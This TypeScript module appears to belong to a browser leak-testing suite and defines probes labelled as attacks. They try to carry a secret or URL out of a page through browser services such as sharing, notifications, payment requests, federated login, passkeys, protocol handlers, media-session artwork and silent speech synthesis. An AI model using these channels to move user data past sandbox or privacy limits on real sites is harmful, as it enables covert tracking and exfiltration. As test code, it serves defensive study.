import { call, get, inGroup, make, sent } from './attack.ts';

const identity = (url: string) => ({
	identity: { providers: [{ configURL: url, clientId: 'leak' }] },
});

/** What a browser hands to the system, to other programs, or to a service of its maker. */
export const serviceAttacks = inGroup('services', [
	{
		id: 'share',
		title: 'Sharing with another program',
		onClick: true,
		run: ({ secret }) => call(navigator, 'share', { text: secret }),
	},
	{
		id: 'notification',
		title: 'A notification',
		run: async ({ secret, url }) => {
			const answer: unknown = await call(get(globalThis, 'Notification'), 'requestPermission');
			if (answer !== 'granted') throw new DOMException('refused', 'NotAllowedError');
			make('Notification', secret, { icon: url });
		},
	},
	{
		id: 'payment',
		title: 'A payment',
		run: ({ url, secret }) => {
			const amount = { currency: 'USD', value: '1.00' };
			const request = make('PaymentRequest', [{ supportedMethods: url }], {
				total: { label: secret, amount },
			});
			return call(request, 'canMakePayment');
		},
	},
	{
		id: 'login-service',
		title: 'A login by another site (federated)',
		run: ({ url }) => call(get(navigator, 'credentials'), 'get', identity(url)),
	},
	{
		id: 'digital-credential',
		title: 'A digital identity card',
		run: ({ secret }) => {
			const requests = [{ protocol: 'openid4vp-v1-unsigned', data: { nonce: secret } }];
			return call(get(navigator, 'credentials'), 'get', { digital: { requests } });
		},
	},
	{
		id: 'passkey',
		title: 'A passkey',
		run: ({ secret }) =>
			call(get(navigator, 'credentials'), 'get', {
				publicKey: { challenge: new TextEncoder().encode(secret), timeout: 10 },
			}),
	},
	{
		id: 'protocol-handler',
		title: 'Becoming the program for a kind of address',
		run: ({ own }) => call(navigator, 'registerProtocolHandler', 'web+leak', `${own}&at=%s`),
	},
	{
		id: 'badge',
		title: 'A number on the site’s icon',
		run: ({ digits }) => call(navigator, 'setAppBadge', Number(digits)),
	},
	{
		id: 'media-session',
		title: 'What is playing, on the lock screen',
		run: ({ secret, url }) => {
			const metadata = make('MediaMetadata', { title: secret, artwork: [{ src: url }] });
			Reflect.set(Object(get(navigator, 'mediaSession')), 'metadata', metadata);
		},
	},
	{
		id: 'presentation',
		title: 'Showing a page on another screen',
		onClick: true,
		run: ({ url }) => call(make('PresentationRequest', [url]), 'start'),
	},
	{
		id: 'serial-port',
		title: 'A device at the computer (serial, USB, Bluetooth)',
		onClick: true,
		run: () => call(get(navigator, 'serial'), 'requestPort'),
	},
	{
		id: 'midi',
		title: 'A musical instrument',
		run: () => call(navigator, 'requestMIDIAccess'),
	},
	{
		id: 'read-aloud',
		title: 'Reading aloud, by a voice that may be on the network',
		onClick: true,
		run: ({ secret }) => {
			const text = Object(make('SpeechSynthesisUtterance', secret));
			text.volume = 0;
			const voices = Object(get(globalThis, 'speechSynthesis'));
			call(voices, 'speak', text);
			return voices.pending === true || voices.speaking === true ? sent() : undefined;
		},
	},
	{
		id: 'translator',
		title: 'The browser’s own translator or helper',
		run: () =>
			call(get(globalThis, 'Translator'), 'create', { sourceLanguage: 'en', targetLanguage: 'fr' }),
	},
]);
